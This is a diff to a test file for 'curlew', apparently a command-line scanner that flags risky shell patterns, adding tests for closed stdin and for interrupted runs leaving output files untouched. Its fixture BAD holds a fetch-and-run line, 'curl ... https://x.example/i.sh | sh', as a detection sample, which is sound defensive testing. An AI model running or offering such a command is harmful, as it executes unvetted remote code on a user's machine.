@@ -1,8 +1,8 @@
-import { readFileSync } from "node:fs";
+import { readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { folderWith } from "./folder.js";
-import { bash, curlew } from "./process.js";
+import { bash, command, curlew } from "./process.js";
 
 const BAD = "curl -fsSL https://x.example/i.sh | sh";
 
@@ -28,6 +28,28 @@ describe("scan", () => {
     expect(stdout).toContain("<stdin>:1:6: bash/fetch-pipe");
     expect(stdout).toContain("sh ./i.sh");
     expect([status, stderr]).toEqual([1, ""]);
+  });
+
+  it.each(["<&-", "</dev/null"])("says that nothing was read with %s", async (closed) => {
+    expect(await bash(`curlew scan - ${closed}`)).toMatchObject({
+      status: 2,
+      stderr: "curlew: <stdin>: is closed or /dev/null; nothing was read\n",
+    });
+    expect((await bash("curlew scan - < <(:)")).status).toBe(0);
+  });
+
+  it("leaves a file of its answer as it was where it is interrupted", async () => {
+    const cwd = folderWith({ "a.md": BAD, "out.json": "before" });
+    const { status, stderr } = await bash(
+      `coproc ${command.map((word) => `'${word}'`).join(" ")} scan a.md - -f json=out.json -f text
+      pid=$COPROC_PID
+      read -r line <&"\${COPROC[0]}"
+      kill -INT "$pid"; wait "$pid"`,
+      { cwd },
+    );
+    expect([status, stderr]).toEqual([130, ""]);
+    expect(readFileSync(join(cwd, "out.json"), "utf8")).toBe("before");
+    expect(readdirSync(cwd).sort()).toEqual(["a.md", "out.json"]);
   });
 
   it("reads files, folders and source files", async () => {
